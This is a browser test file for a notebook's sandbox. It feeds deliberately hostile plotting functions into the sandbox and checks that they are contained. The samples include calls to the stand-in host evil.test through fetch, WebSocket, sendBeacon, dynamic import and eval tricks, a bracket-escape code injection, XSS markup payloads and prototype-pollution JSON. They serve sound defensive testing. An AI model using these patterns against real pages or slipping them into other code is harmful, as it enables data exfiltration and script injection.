import { afterAll, describe, expect, test } from "vitest";
import { explorer, forged, htmlOf, says } from "../support/explorer-output";
import { closeTestBrowser, openNotebookPage, testBrowser } from "../support/notebook-page";

const browser = await testBrowser();
if (!browser) console.log("no browser on this machine: hostile explorers are not tried in a page");
afterAll(closeTestBrowser);

describe.runIf(browser)("a hostile explorer", () => {
  test("could be seen if it reached out: the test's own control", async () => {
    const { page, requests, close } = await openNotebookPage("<p>…</p>");
    await page.evaluate(() => {
      const script = 'fetch("http://evil.test/f"); import("http://evil.test/m.js").catch(() => 0);';
      new Worker(URL.createObjectURL(new Blob([script])));
    });
    await expect.poll(() => requests.length, { timeout: 5000 }).toBe(2);
    expect(requests.every((url) => url.includes("evil.test"))).toBe(true);
    await close();
  });

  const evil = "http://evil.test";
  const call = (code: string): string =>
    `(klab, v) => { try { ${code} } catch {} return { data: [], layout: { title: { text: "试过了" } } } }`;
  const reaching = {
    fetch: call(`fetch("${evil}")`),
    XMLHttpRequest: call(`const x = new XMLHttpRequest(); x.open("GET", "${evil}"); x.send()`),
    WebSocket: call('new WebSocket("ws://evil.test")'),
    EventSource: call(`new EventSource("${evil}")`),
    importScripts: call(`importScripts("${evil}/a.js")`),
    beacon: call(`navigator.sendBeacon("${evil}", "x")`),
    "a dynamic import": call(`import("${evil}/m.js")`),
    "an import by eval": call(`(0, eval)('import("${evil}/m.js")')`),
    "the global by Function": call(`Function("return this")().fetch("${evil}")`),
    "the global's prototype": call(
      `Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, "${evil}")`,
    ),
    "a Worker of its own": call(`new Worker("data:text/javascript,fetch('${evil}')")`),
    storage: call('indexedDB.open("x")'),
    "a break out of its brackets": `0); fetch("${evil}"); import("${evil}/m.js"); (0`,
    "a rejected promise that fetches": call(`Promise.reject().catch(() => fetch("${evil}"))`),
  };

  test.each(Object.entries(reaching))("reaches nothing by %s", async (_, source) => {
    const { page, requests, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    // Broken out of its brackets, it fails before it is called.
    await says(page, source.startsWith("0)") ? "不能运行" : "试过了");
    await page.waitForTimeout(300);
    expect(requests).toEqual([]);
    await close();
  });

  test("that never ends is ended, and the explorer beside it works all the while", async () => {
    const { page, close } = await openNotebookPage(
      forged({ source: "(klab, v) => { for (;;); }" }) + htmlOf(explorer),
    );
    await page.getByLabel("均值μ").first().fill("1");
    await page.getByLabel("均值μ").last().fill("1");
    await says(page, "0.5 nat", 1);
    await says(page, "已停止", 0);
    await close();
  }, 40_000);

  test.each([
    [
      "a result of millions of numbers",
      'return { data: [{ type: "scatter", y: Array(3e6).fill(1.5) }], layout: {} }',
      "图太大",
    ],
    [
      "too many traces",
      'return { data: Array(1000).fill({ type: "scatter" }), layout: {} }',
      "没有返回可画的图",
    ],
    [
      "a type of trace that loads tiles",
      'return { data: [{ type: "scattermap" }], layout: {} }',
      "没有返回可画的图",
    ],
    ["no figure", "return 7", "没有返回可画的图"],
    ["an error that is markup", 'throw new Error("<img src=x onerror=pwned()>")', ""],
  ])("returning %s is told so", async (_, body, message) => {
    const { page, requests, errors, close } = await openNotebookPage(
      forged({ source: `(klab, v) => { ${body} }` }),
    );
    await page.getByLabel("均值μ").fill("1");
    await says(page, message);
    await page.waitForTimeout(200);
    expect(await page.locator("figure img").count()).toBe(0);
    expect(requests).toEqual([]);
    expect(errors).toEqual([]);
    await close();
  });

  test("puts no markup, link or picture into the page by its labels", async () => {
    const markup = `<img src='${evil}/i.png'><a href='${evil}'>看</a><script>pwned=1</script><b>粗</b>`;
    const source = `(klab, v) => ({ data: [{ type: "scatter", name: ${JSON.stringify(markup)}, x: [1, 2], y: [1, 2] }], layout: { title: { text: ${JSON.stringify(markup)} }, images: [{ source: "${evil}/j.png" }], annotations: [{ text: ${JSON.stringify(markup)} }] } })`;
    const { page, requests, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    await says(page, "粗");
    expect(await page.locator("figure a:not(.modebar-btn), figure img, figure image").count()).toBe(
      0,
    );
    expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
    expect(requests).toEqual([]);
    await close();
  });

  test("pollutes no prototype", async () => {
    const json =
      '{"type":"scatter","y":[1],"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}';
    const source = `(klab, v) => { Object.prototype.polluted = 1; return { data: [JSON.parse('${json}')], layout: JSON.parse('{"title":{"text":"完"},"__proto__":{"polluted":1}}') } }`;
    const { page, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    await says(page, "完");
    expect(await page.evaluate(() => "polluted" in {})).toBe(false);
    await close();
  });

  test("with markup for labels, names and choices shows it as text", async () => {
    const label = "<img src=x onerror=pwned=1>";
    const controls = {
      [label]: { kind: "slider", low: 0, high: 1, value: 0, step: 0.1, label },
      s: { kind: "select", choices: [label], value: label },
    };
    const { page, requests, close } = await openNotebookPage(forged({ controls }));
    await page.locator("label").first().waitFor();
    expect(await page.locator("label").first().textContent()).toBe(label);
    expect(await page.locator("figure img").count()).toBe(0);
    expect(requests).toEqual([]);
    await close();
  });
});
